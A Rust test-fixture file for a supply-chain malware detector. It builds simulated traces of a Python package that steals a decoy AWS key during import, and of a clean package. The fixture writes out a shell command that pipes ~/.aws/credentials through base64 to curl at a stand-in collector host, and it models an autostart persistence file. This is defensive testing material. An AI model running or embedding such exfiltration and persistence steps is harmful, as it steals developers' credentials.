//! Hand-made traces: what an agent would have seen of a package that steals a key, and of one that does nothing.

use pyti_model::Foreign;
use pyti_model::effect::{Captured, Change, Changed, Entry, Exit};
use pyti_model::event::{Envelope, Event};
use pyti_model::finding::{Family, Finding, Judgement, RuleState, Severity};
use pyti_model::outcome::Verdict;
use pyti_model::trace::{
    Access, Act, Conversation, Count, Decoy, DecoyPlace, DecoyUse, Deed, End, Endpoint, EventRef, Exchange,
    Form, Origin, Process, Result, Tls, Trace, Transport, Written,
};
use pyti_report::{Job, Run};

use crate::support::{Judged, Script, wheel};

pub(crate) const SECRET: &str = "AKIAZ3XEXAMPLE7Q2W";
const PYTHON: &str = "/opt/python/bin/python3.13";
const PTH: &str = "/home/dev/.config/autostart/updater.desktop";

/// A recording with traces put into its tasks, and what a judge would say of it.
pub(crate) struct Case {
    pub(crate) judged: Judged,
    pub(crate) found: Judgement,
}

impl Case {
    pub(crate) fn run(&self) -> Run<'_> {
        Run {
            id: "7f3a",
            name: "six",
            version: Some("1.17.0"),
            interpreter: "CPython 3.13",
            python: "3.13",
            isolation: "sandbox",
            jobs: vec![Job::new(&self.judged.0, &self.judged.1).with(Some(&self.found))],
        }
    }
}

pub(crate) fn process(number: u32, parent: Option<u32>, argv: &[&str], life: (u64, u64)) -> Process {
    Process {
        number,
        parent,
        pid: 2 + i32::try_from(number).unwrap(),
        began_us: life.0,
        ended: Some(End {
            at_us: life.1,
            exit: Some(Exit::Code(0)),
        }),
        executable: argv[0].into(),
        argv: argv.iter().map(|a| Foreign::from(*a)).collect(),
    }
}

pub(crate) fn act(at_us: u64, process: u32, result: Result, deed: Deed) -> Act {
    Act {
        at_us,
        process: Some(process),
        result,
        times: 1,
        deed,
    }
}

pub(crate) fn read(path: &str) -> Deed {
    Deed::Open {
        path: path.into(),
        access: Access {
            read: true,
            ..Access::default()
        },
    }
}

pub(crate) fn write(path: &str) -> Deed {
    Deed::Open {
        path: path.into(),
        access: Access {
            write: true,
            create: true,
            truncate: true,
            ..Access::default()
        },
    }
}

pub(crate) fn execute(argv: &[&str], origin: Origin) -> Deed {
    Deed::Execute {
        path: argv[0].into(),
        argv: argv.iter().map(|a| Foreign::from(*a)).collect(),
        argv_dropped: 0,
        cwd: Foreign::default(),
        variables: Vec::new(),
        origin,
        sockets: Vec::new(),
    }
}

pub(crate) fn captured(bytes: &[u8]) -> Captured {
    Captured {
        head: bytes.into(),
        tail: Foreign::default(),
        total: bytes.len() as u64,
    }
}

pub(crate) fn conversation(host: &str, body: &[u8]) -> Conversation {
    Conversation {
        transport: Transport::Tcp,
        address: "198.18.0.7".parse().unwrap(),
        port: 443,
        host: Some(host.into()),
        language: "http".into(),
        tls: Some(Tls {
            server_name: Some(host.into()),
            offered: vec!["http/1.1".into()],
            accepted: true,
            alert: None,
        }),
        exchanges: vec![Exchange {
            verb: "POST".into(),
            target: "/v1/collect?host=devbox".into(),
            host: Some(host.into()),
            headers: vec![
                ("User-Agent".into(), "curl/8.5.0".into()),
                ("Content-Type".into(), "application/x-www-form-urlencoded".into()),
            ],
            body: captured(body),
            answer: "200".into(),
        }],
        sent: captured(body),
        answered: 2,
        lasted_us: 41_000,
    }
}

pub(crate) fn decoys() -> Vec<Decoy> {
    vec![Decoy {
        id: "aws.credentials".into(),
        family: "aws".into(),
        place: DecoyPlace::File("/home/dev/.aws/credentials".into()),
        secrets: vec![SECRET.into()],
        commonly_read: false,
    }]
}

/// It reads a key while it is imported, starts a shell that starts curl, sends the key hidden by base64, and
/// leaves a file that starts with the session.
pub(crate) fn thief() -> Trace {
    use base64::Engine as _;
    let body = format!(
        "k={}",
        base64::engine::general_purpose::STANDARD.encode(format!("[default]\nkey = {SECRET}\n"))
    );
    let mut refusing = conversation("telemetry.example", b"");
    refusing.exchanges.clear();
    refusing.sent = Captured::default();
    refusing.tls = Some(Tls {
        server_name: Some("telemetry.example".into()),
        offered: Vec::new(),
        accepted: false,
        alert: Some("unknown_ca".into()),
    });
    let curl = [
        "/usr/bin/curl",
        "-s",
        "-d",
        "@-",
        "https://collector.example/v1/collect",
    ];
    Trace {
        form: Form::Full,
        processes: vec![
            process(0, None, &[PYTHON, "-c", "import six"], (0, 1_240_000)),
            process(
                1,
                Some(0),
                &[
                    "/bin/sh",
                    "-c",
                    "cat ~/.aws/credentials | base64 | curl -s -d @- https://collector.example/v1/collect",
                ],
                (210_000, 1_100_000),
            ),
            process(2, Some(1), &["/usr/bin/base64"], (215_000, 260_000)),
            process(3, Some(1), &curl, (216_000, 1_090_000)),
            process(4, Some(0), &["/usr/bin/uname", "-a"], (90_000, 96_000)),
        ],
        acts: vec![
            act(
                90_000,
                4,
                Result::Done,
                execute(&["/usr/bin/uname", "-a"], Origin::System),
            ),
            act(120_000, 0, Result::Attempted, read("/etc/hostname")),
            act(
                130_000,
                0,
                Result::Failed("ENOENT".into()),
                read("/home/dev/.netrc"),
            ),
            act(
                210_000,
                1,
                Result::Done,
                execute(
                    &["/bin/sh", "-c", "cat ~/.aws/credentials | base64 | curl"],
                    Origin::System,
                ),
            ),
            act(214_000, 1, Result::Attempted, read("/home/dev/.aws/credentials")),
            act(
                214_100,
                1,
                Result::Attempted,
                Deed::Decoy {
                    decoy: "aws.credentials".into(),
                    used: DecoyUse::Read {
                        path: "/home/dev/.aws/credentials".into(),
                    },
                },
            ),
            act(216_000, 3, Result::Done, execute(&curl, Origin::System)),
            act(
                300_000,
                3,
                Result::Attempted,
                Deed::Resolve {
                    name: "collector.example".into(),
                    record: "A".into(),
                    answer: vec!["198.18.0.7".into()],
                },
            ),
            act(
                310_000,
                3,
                Result::Done,
                Deed::Connect {
                    to: Endpoint::Ip {
                        address: "198.18.0.7".parse().unwrap(),
                        port: 443,
                    },
                    transport: Transport::Tcp,
                },
            ),
            act(
                350_000,
                3,
                Result::Attempted,
                Deed::Converse(Box::new(conversation("collector.example", body.as_bytes()))),
            ),
            act(
                351_000,
                3,
                Result::Attempted,
                Deed::Decoy {
                    decoy: "aws.credentials".into(),
                    used: DecoyUse::Sent {
                        encoding: "base64".into(),
                        act: 9,
                    },
                },
            ),
            act(700_000, 0, Result::Done, write(PTH)),
            act(800_000, 0, Result::Attempted, Deed::Converse(Box::new(refusing))),
            act(
                900_000,
                0,
                Result::Refused,
                Deed::Forbidden { call: "bpf".into() },
            ),
        ],
        counts: vec![Count {
            what: "open_system".into(),
            times: 412,
        }],
        losses: Vec::new(),
    }
}

/// A compiler's crowd of processes around one that matters.
pub(crate) fn crowd() -> Trace {
    let mut processes = vec![process(0, None, &[PYTHON, "-m", "build"], (0, 9_000_000))];
    let mut acts = Vec::new();
    for n in 0..40_u32 {
        let began = 100_000 * u64::from(n);
        processes.push(process(
            1 + 2 * n,
            Some(0),
            &["/usr/bin/gcc", "-c", "a.c"],
            (began, began + 90_000),
        ));
        processes.push(process(
            2 + 2 * n,
            Some(1 + 2 * n),
            &["/usr/lib/cc1", "a.c"],
            (began + 1000, began + 80_000),
        ));
        acts.push(act(
            began,
            1 + 2 * n,
            Result::Attempted,
            write(&format!("/home/dev/src/build/a{n}.o")),
        ));
    }
    processes.push(process(81, Some(80), &["/tmp/x", "--go"], (8_000_000, 8_500_000)));
    acts.push(act(
        8_000_000,
        81,
        Result::Done,
        execute(&["/tmp/x", "--go"], Origin::Written),
    ));
    Trace {
        form: Form::Light,
        processes,
        acts,
        ..Trace::default()
    }
}

pub(crate) fn finding(
    rule: &str,
    severity: Severity,
    phase: &str,
    sentence: &str,
    events: Vec<EventRef>,
) -> Finding {
    Finding {
        rule: rule.into(),
        title: "a rule about it".into(),
        severity,
        family: Family::Exfiltration,
        phase: phase.into(),
        sentence: sentence.into(),
        events,
        mitre: vec!["T1552.001".into()],
        state: RuleState::Active,
        suppressed: None,
    }
}

/// A recording of that job with these traces in these tasks. Gives the number of each trace's event too.
pub(crate) fn recorded(
    script: &Script,
    traces: &[(&str, Trace)],
    more: Vec<(&str, Event)>,
) -> (Judged, Vec<u64>) {
    let mut events: Vec<Event> = Vec::new();
    let mut seqs = Vec::new();
    for envelope in script.events() {
        if let Event::Ended { task, .. } = &envelope.event {
            for (of, trace) in traces.iter().filter(|(of, _)| of == task) {
                seqs.push(events.len() as u64);
                events.push(Event::Traced {
                    task: (*of).to_owned(),
                    trace: Box::new(trace.clone()),
                });
            }
            events.extend(
                more.iter()
                    .filter(|(of, _)| of == task)
                    .map(|(_, event)| event.clone()),
            );
        }
        let planned = matches!(envelope.event, Event::Planned { .. });
        events.push(envelope.event);
        if planned {
            events.push(Event::Planted { decoys: decoys() });
        }
    }
    let envelopes = events.into_iter().zip(0..).map(|(event, seq)| Envelope {
        seq,
        at_us: seq * 1000,
        event,
    });
    let record = pyti_judge::fold(envelopes);
    let judgement = pyti_judge::judge(&record);
    ((record, judgement), seqs)
}

fn written() -> Event {
    Event::Written {
        task: "import".into(),
        files: vec![Written {
            path: PTH.into(),
            sha256: "c".repeat(64).parse().unwrap(),
            size: 71,
            preview: "[Desktop Entry]\nType=Application\nExec=python3 -m six_updater\n".into(),
            program: false,
        }],
    }
}

/// The thief in the import of six's wheel, and a crowd in its install.
pub(crate) fn harmful() -> Case {
    let script = wheel().with("import", |task| {
        task.changes = vec![Change {
            path: PTH.into(),
            what: Changed::Added,
            entry: Some(Entry::File),
            size: Some(71),
            mode: Some(0o644),
        }];
    });
    let (judged, seqs) = recorded(
        &script,
        &[("install", crowd()), ("import", thief())],
        vec![("import", written())],
    );
    let at = |items: &[u32]| {
        items
            .iter()
            .map(|item| EventRef {
                seq: seqs[1],
                item: Some(*item),
            })
            .collect::<Vec<_>>()
    };
    let mut trial = finding(
        "asks-who-it-is",
        Severity::Low,
        "import",
        "While being imported, it asked for the machine's name.",
        at(&[1]),
    );
    trial.state = RuleState::Shadow;
    let found = Judgement {
        verdict: Verdict::Harmful,
        findings: vec![
            finding(
                "decoy-sent",
                Severity::Critical,
                "import",
                "While being imported, it read the decoy AWS key and sent it to collector.example, hidden by base64 (nothing left the box).",
                at(&[3, 5, 6, 7, 9, 10]),
            ),
            finding(
                "autostart-written",
                Severity::Critical,
                "import",
                "While being imported, it left a program that starts with the session: ~/.config/autostart/updater.desktop.",
                [
                    at(&[11]),
                    vec![
                        EventRef {
                            seq: seqs[1] - 1,
                            item: Some(0),
                        },
                        EventRef {
                            seq: seqs[1] + 1,
                            item: Some(0),
                        },
                    ],
                ]
                .concat(),
            ),
            finding(
                "runs-what-it-wrote",
                Severity::High,
                "install",
                "While being installed, it ran /tmp/x, which it had written itself.",
                vec![EventRef {
                    seq: seqs[0],
                    item: Some(40),
                }],
            ),
            finding(
                "hardware-identity-read",
                Severity::Low,
                "import",
                "It looked at what tells machines apart.",
                at(&[0]),
            ),
            trial,
        ],
        missing: Vec::new(),
        rules: "d".repeat(64),
    };
    Case { judged, found }
}

/// Nothing beyond the baseline.
pub(crate) fn clean() -> Case {
    let trace = Trace {
        form: Form::Full,
        processes: vec![process(0, None, &[PYTHON, "-c", "import six"], (0, 60_000))],
        acts: vec![act(
            9_000,
            0,
            Result::Attempted,
            read("/home/dev/venv/lib/python3.13/site-packages/six.py"),
        )],
        ..Trace::default()
    };
    let (judged, _) = recorded(&wheel(), &[("import", trace)], Vec::new());
    Case {
        judged,
        found: Judgement {
            verdict: Verdict::Clean,
            rules: "d".repeat(64),
            ..Judgement::default()
        },
    }
}
